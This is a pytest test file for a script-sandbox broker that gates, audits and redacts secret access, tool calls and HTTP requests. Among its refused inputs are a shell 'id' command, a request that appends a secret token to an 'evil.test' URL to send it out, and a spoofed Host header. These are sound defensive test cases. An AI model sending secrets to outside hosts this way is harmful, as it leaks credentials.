"""The broker: what a script asks is judged, opened, recorded, and only then done; nothing comes back unscrubbed."""

import asyncio
import base64
import hashlib
import hmac
import time
from pathlib import Path
from typing import Any

import pytest

from openpact.domain import errors
from openpact.domain.run import Code, Denied
from openpact.domain.sealed import MOST_COMPUTED, TOKEN
from openpact.domain.secret import Secret
from openpact.services.broker import Session
from openpact.services.ports import Loaded
from openpact.services.secret_sources import Given
from openpact.services.secrets import Terms
from tests.services import hand
from tests.services.running import VALUE, Running, denied, running

WHAT_NO_SCRIPT_SENDS: list[tuple[str, dict[str, Any]]] = [
    ("shell", {"command": "id"}),
    ("secrets.get", {}),
    ("secrets.get", {"name": 7}),
    ("secrets.has", {"name": ["KEY"]}),
    ("derive", {"op": "hash.sha256", "inputs": "KEY"}),
    ("derive", {"op": "hash.sha256", "inputs": ["a"], "more": 1}),
    ("tools", {"name": "a.b"}),
    ("tools", {"name": "a.b", "arguments": {}}),
    ("load", {"path": None}),
    ("http", {"method": "GET"}),
    ("http", {"method": "GET", "url": "https://a.test/", "follow": True}),
    ("http", {"method": "GET", "url": "https://a.test/", "headers": {"a": 1}}),
    ("http", {"method": "GET", "url": "https://a.test/", "auth": ["a"]}),
]


class Echo:
    """Tools that give back what they got."""

    def __init__(self, answer: str = "null") -> None:
        self.called: list[tuple[str, str]] = []
        self._answer = answer

    async def call(self, name: str, arguments: str) -> str:
        self.called.append((name, arguments))
        return self._answer


async def token_of(session: Session) -> str:
    token = await session.call("secrets.get", {"name": "KEY"})
    assert isinstance(token, str)
    return token


@pytest.mark.parametrize(("op", "given"), WHAT_NO_SCRIPT_SENDS)
def test_what_no_script_can_ask_is_a_violation_and_leaves_no_trace(
    op: str, given: dict[str, Any], tmp_path: Path
) -> None:
    async def tried() -> None:
        async with running(tmp_path) as here:
            refusal = await denied(here.session("# @tools: a.b"), op, **given)
            assert refusal.code is Code.SANDBOX_VIOLATION
            assert here.events("secret.access") == here.events("http.request") == []
            assert here.served.asked == []

    asyncio.run(tried())


@pytest.mark.promise("SCR-1.05", "SCR-2.11", "SCR-4.09", "SCR-4.17")
def test_a_secret_is_declared_recorded_and_given_as_one_token(tmp_path: Path) -> None:
    async def tried() -> None:
        async with running(tmp_path) as here:
            here.set("OTHER")
            session = here.session("# @secrets: LATER")
            refusal = await denied(session, "secrets.get", name="OTHER")
            assert (refusal.code, refusal.hint) == (Code.CAPABILITY_DENIED, "Declare it: # @secrets: OTHER")
            assert here.events("secret.access") == []
            assert await session.call("secrets.get", {"name": "LATER"}) == ""
            assert (await session.call("secrets.list", {}), session.secrets_used) == (["KEY"], [])

            token = await token_of(session)
            assert TOKEN.fullmatch(token)
            assert await token_of(session) == token != await token_of(here.session())
            assert session.secrets_used == ["KEY"]
            names = ("KEY", "LATER", "OTHER", "none")
            assert [await session.call("secrets.has", {"name": name}) for name in names] == [True, False, False, False]
            here.set("LATER")
            assert TOKEN.fullmatch(str(await session.call("secrets.get", {"name": "LATER"})))

            first, second, third = here.events("secret.access")
            assert (first.actor, first.actor_name, first.request_id) == ("script/weather.star", "weather.star", "req_1")
            assert [event.target for event in (first, second, third)] == ["KEY", "KEY", "LATER"]
            details = {"script": "weather.star", "mode": "sealed", "for": here.boss.id}
            assert here.recorded("secret.access")[0] == ("KEY", "done", details)
            assert here.world.house.secrets.get("KEY").used_at is not None

    asyncio.run(tried())


@pytest.mark.promise("SCR-3.11", "SCR-4.17")
def test_what_cannot_be_recorded_is_not_done(tmp_path: Path) -> None:
    async def tried() -> None:
        async with running(tmp_path) as here:
            session, fresh = here.session(), here.session()
            token = await token_of(session)
            with hand.away(here.world.url, "audit_events"):
                for asked, op, given in (
                    (fresh, "secrets.get", {"name": "KEY"}),
                    (session, "http", {"method": "GET", "url": here.origin, "headers": {"X-Key": token}}),
                ):
                    refusal = await denied(asked, op, **given)
                    assert refusal.code is Code.SCRIPT_ERROR
                    assert isinstance(refusal.__cause__, errors.StoreUnavailable)
            assert here.served.connections == 0
            assert fresh.secrets_used == []
            (exchange,) = session.exchanges
            assert (exchange.status, exchange.error) == (None, refusal.message)

    asyncio.run(tried())


def test_a_store_that_is_closed_ends_the_run_and_nothing_leaves(tmp_path: Path) -> None:
    async def tried() -> None:
        async with running(tmp_path) as here:
            session = here.session()
            await session.redaction()
            here.world.store.close()
            for op, given in (("secrets.get", {"name": "KEY"}), ("http", {"method": "GET", "url": here.origin})):
                assert (await denied(session, op, **given)).code is Code.SCRIPT_ERROR
            assert here.served.connections == 0

    asyncio.run(tried())


@pytest.mark.promise("SCR-3.11")
def test_what_is_refused_before_is_not_recorded_as_begun(tmp_path: Path) -> None:
    async def tried() -> None:
        async with running(tmp_path) as here:
            here.set("KEY", terms=Terms(hosts=("good.test",), places=("header",)))  # at the usual port
            session = here.session(hosts=("good.test", "other.test"))
            token = await token_of(session)
            asked: list[tuple[Code, dict[str, Any]]] = [
                (Code.CAPABILITY_DENIED, {"method": "DELETE", "url": here.origin}),
                (Code.CAPABILITY_DENIED, {"method": "GET", "url": "https://evil.test/" + token}),
                (Code.SECRET_NOT_GRANTED, {"method": "GET", "url": here.origin, "headers": {"X-Key": token}}),
                (Code.SCRIPT_ERROR, {"method": "GET", "url": here.origin, "headers": {"X-Key": token[:30]}}),
                (Code.HTTP_ERROR, {"method": "GET", "url": here.origin, "headers": {"Host": "evil.test"}}),
                (Code.HTTP_ERROR, {"method": "GET", "url": f"{here.origin}/ /"}),
                (Code.SANDBOX_VIOLATION, {"method": "GET", "url": here.origin, "params": ["a"]}),
            ]
            for code, given in asked:
                assert (await denied(session, "http", **given)).code is code, given
            assert not [*here.events("http.request"), *session.exchanges, *session.hosts]
            assert here.served.connections == 0

    asyncio.run(tried())


def test_sleep_is_short_and_ends(tmp_path: Path) -> None:
    async def tried() -> None:
        async with running(tmp_path) as here:
            session = here.session()
            for seconds in (5.1, -1, "1", None, float("inf")):
                assert (await denied(session, "sleep", seconds=seconds)).code is Code.SCRIPT_ERROR
            began_at = time.monotonic()
            assert await session.call("sleep", {"seconds": 0.05}) is None
            assert time.monotonic() - began_at >= 0.05

    asyncio.run(tried())


@pytest.mark.promise("SCR-2.13")
def test_what_is_computed_is_sealed_or_refused(tmp_path: Path) -> None:
    async def tried() -> None:
        async with running(tmp_path) as here:
            session = here.session()
            token = await token_of(session)
            made = await session.call("derive", {"op": "hash.sha256", "inputs": [token], "options": {}})
            assert TOKEN.fullmatch(str(made))
            assert made != token
            refusal = await denied(session, "derive", op="hash.md5", inputs=[token])
            assert (refusal.code, refusal.message) == (Code.SCRIPT_ERROR, "There is no operation 'hash.md5'.")

    asyncio.run(tried())


@pytest.mark.promise("SCR-1.05", "SCR-7.05")
def test_a_tool_is_declared_gets_no_token_and_its_answer_is_scrubbed(tmp_path: Path) -> None:
    async def tried() -> None:
        async with running(tmp_path) as here:
            tools = Echo('{"found":"' + VALUE.replace('"', '\\"') + '"}')
            session = here.session("# @tools: mail.send", ports=here.ports(tools=tools))
            token = await token_of(session)
            refusal = await denied(session, "tools", name="mail.read", arguments="{}")
            assert (refusal.code, refusal.hint) == (Code.CAPABILITY_DENIED, "Declare it: # @tools: mail.read")
            refusal = await denied(session, "tools", name="mail.send", arguments=f'{{"a":["{token}"]}}')
            assert (refusal.code, tools.called) == (Code.SCRIPT_ERROR, [])
            answer = await session.call("tools", {"name": "mail.send", "arguments": '{"a":1}'})
            assert answer == '{"found":"[REDACTED:KEY]"}'
            assert tools.called == [("mail.send", '{"a":1}')]
            nowhere = await denied(here.session("# @tools: mail.send"), "tools", name="mail.send", arguments="{}")
            assert nowhere.code is Code.CAPABILITY_DENIED

    asyncio.run(tried())


def test_what_is_loaded_is_kept_with_its_hash(tmp_path: Path) -> None:
    async def load(path: str) -> Loaded:
        if path != "lib/a.star":
            raise Denied(Code.SCRIPT_ERROR, "no")
        return Loaded(path, "a = 1\n", "sha256:1")

    async def tried() -> None:
        async with running(tmp_path) as here:
            session = here.session(ports=here.ports(load=load))
            given = {"path": "lib/a.star", "source": "a = 1\n", "sha256": "sha256:1"}
            assert await session.call("load", {"path": "lib/a.star"}) == given
            assert (await denied(session, "load", path="lib/b.star")).code is Code.SCRIPT_ERROR
            assert session.closure == {"lib/a.star": "sha256:1"}
            assert (await denied(here.session(), "load", path="lib/a.star")).code is Code.SCRIPT_ERROR

    asyncio.run(tried())


@pytest.mark.promise("SCR-4.13", "SCR-4.14")
def test_texts_for_people_show_names_for_values_and_for_tokens_that_came_since(tmp_path: Path) -> None:
    async def tried() -> None:
        async with running(tmp_path) as here:
            session = here.session("# @secrets: PLAIN")
            here.set("PLAIN", "in-plain-4f9d8a", Terms(mode="plain"))
            assert (await session.redaction()).text("in-plain-4f9d8a") == "[REDACTED:PLAIN]"
            token = await token_of(session)
            assert await session.call("secrets.get", {"name": "PLAIN"}) == "in-plain-4f9d8a"
            mixed = await session.call("derive", {"op": "hash.sha256", "inputs": [token]})
            here.world.house.secrets.delete(here.boss, "PLAIN")
            redaction = await session.redaction()
            text = f"{token} {mixed} {token.upper()} {VALUE} in-plain-4f9d8a"
            shown = " ".join(["[REDACTED:KEY]"] * 4) + " [REDACTED:PLAIN]"
            assert redaction.text(text) == shown
            assert redaction.json(f'{{"{token}":["{mixed}"]}}') == '{"[REDACTED:KEY]":["[REDACTED:KEY]"]}'
            assert here.recorded("secret.access")[1][2]["mode"] == "plain"

    asyncio.run(tried())


@pytest.mark.promise("SCR-4.12")
def test_all_that_a_run_has_had_computed_is_searched_for_and_costs_little(tmp_path: Path) -> None:
    async def tried() -> float:
        async with running(tmp_path) as here:
            session = here.session()
            token, long = await token_of(session), "é\\\"<&>'% /" * 300
            spent, made = 0.0, [await session.call("derive", {"op": "hmac.sha256", "inputs": [token, "0"]})]
            made.append(await session.call("derive", {"op": "hash.sha256", "inputs": [token + "x" * 100_000]}))
            for count in range(MOST_COMPUTED - 2):
                made.append(await session.call("derive", {"op": "base64.encode", "inputs": [f"{count}{long}{token}"]}))
                if count % 4 == 0:
                    began_at = time.process_time()
                    redaction = await session.redaction()
                    spent += time.process_time() - began_at
            assert TOKEN.fullmatch(str(made[-1]))
            signed = hmac.digest(VALUE.encode(), b"0", "sha256").hex()
            written = base64.b64encode(f"7{long}{VALUE}".encode()).decode()
            hashed = hashlib.sha256((VALUE + "x" * 100_000).encode()).hexdigest()
            assert redaction.text(f"{signed} {hashed} {written}") == " ".join(["[REDACTED:KEY]"] * 3)
            return spent

    assert asyncio.run(tried()) < 5


async def used(here: Running) -> object:
    session = here.session()
    token = await token_of(session)
    answer = await session.call("http", {"method": "GET", "url": here.origin, "headers": {"X-Key": token}})
    assert isinstance(answer, dict)
    return answer["status"]


@pytest.mark.promise("SCR-4.16")
def test_a_new_value_is_used_from_the_next_run_on(tmp_path: Path) -> None:
    async def tried() -> None:
        async with running(tmp_path) as here:
            session = here.session()
            before = await token_of(session)
            here.set("KEY", "the-new-value-4f9d")
            assert await used(here) == 200
            given = {"method": "GET", "url": here.origin, "headers": {"X-Key": before}}
            await session.call("http", given)
            sent = [asked.headers["x-key"] for asked in here.served.asked]
            assert sent == ["the-new-value-4f9d", VALUE]  # a run goes on with what it began with

    asyncio.run(tried())


@pytest.mark.promise("SCR-4.06")
@pytest.mark.parametrize(
    ("terms", "said"),
    [
        (Terms(scripts=("other*",)), "not granted to weather.star"),
        (Terms(scripts=()), "not granted to weather.star"),
        (Terms(expires="2026-02-05T10:31:00Z"), "ended"),
    ],
)
def test_a_secret_that_is_not_for_this_script_or_has_ended_is_not_given(
    terms: Terms, said: str, tmp_path: Path
) -> None:
    async def tried() -> None:
        async with running(tmp_path) as here:
            here.set("KEY", terms=terms)
            here.world.clock.advance(minutes=2)
            refusal = await denied(here.session(), "secrets.get", name="KEY")
            assert refusal.code is Code.SECRET_NOT_GRANTED
            assert said in refusal.message
            assert refusal.hint
            assert here.events("secret.access") == []
            here.set("KEY", terms=Terms(scripts=("weath*",), expires=None))
            assert await used(here) == 200

    asyncio.run(tried())


@pytest.mark.promise("SCR-4.07")
def test_where_grants_are_demanded_a_secret_without_one_is_not_given(tmp_path: Path) -> None:
    async def tried() -> None:
        given = {
            "KEY": Given(secret=Secret(name="KEY", value=VALUE), source="configuration", origin="starlark.secrets.KEY")
        }
        async with running(tmp_path, given=given, require_grants=True) as here:
            refusal = await denied(here.session(), "secrets.get", name="KEY")
            assert refusal.code is Code.SECRET_NOT_GRANTED
            assert "no grant" in refusal.message
        (tmp_path / "open").mkdir()
        async with running(tmp_path / "open", given=given) as here:
            assert await used(here) == 200

    asyncio.run(tried())


LONG = "a-plain-value-4f9d8a"


@pytest.mark.promise("SCR-4.06", "SCR-4.17")
@pytest.mark.parametrize(
    ("terms", "more", "code"),
    [
        (Terms(mode="plain"), {"headers": {"X-Key": LONG}}, None),
        (Terms(mode="plain", hosts=("elsewhere.test",)), {"headers": {"X-Key": LONG}}, Code.SECRET_NOT_GRANTED),
        (Terms(mode="plain", places=("header",)), {"params": ["k", LONG]}, Code.SECRET_NOT_GRANTED),
        (Terms(mode="plain", places=("query",)), {"params": ["k", LONG]}, None),
        (Terms(mode="plain", places=("basic",)), {"auth": ["me", LONG]}, None),
        (Terms(mode="plain", places=("body",)), {"headers": {"X-Key": LONG}}, Code.SECRET_NOT_GRANTED),
        (
            Terms(mode="plain", places=("header",)),
            {"method": "POST", "body": LONG.encode().hex()},
            Code.SECRET_NOT_GRANTED,
        ),
    ],
)
def test_a_plain_secret_is_held_to_its_grant_as_well(
    tmp_path: Path, terms: Terms, more: dict[str, Any], code: Code | None
) -> None:
    async def tried() -> None:
        async with running(tmp_path) as here:
            here.set("KEY", LONG, terms)
            session = here.session()
            assert await session.call("secrets.get", {"name": "KEY"}) == LONG
            given = {"method": "GET", "url": here.origin, **more}
            if code is None:
                await session.call("http", given)
                assert session.exchanges[-1].secrets == ("KEY",)
                assert here.recorded("http.request")[0][2]["carrying"] == ["KEY"]
            else:
                with pytest.raises(Denied) as refusal:
                    await session.call("http", given)
                assert (refusal.value.code, here.served.asked) == (code, [])

    asyncio.run(tried())
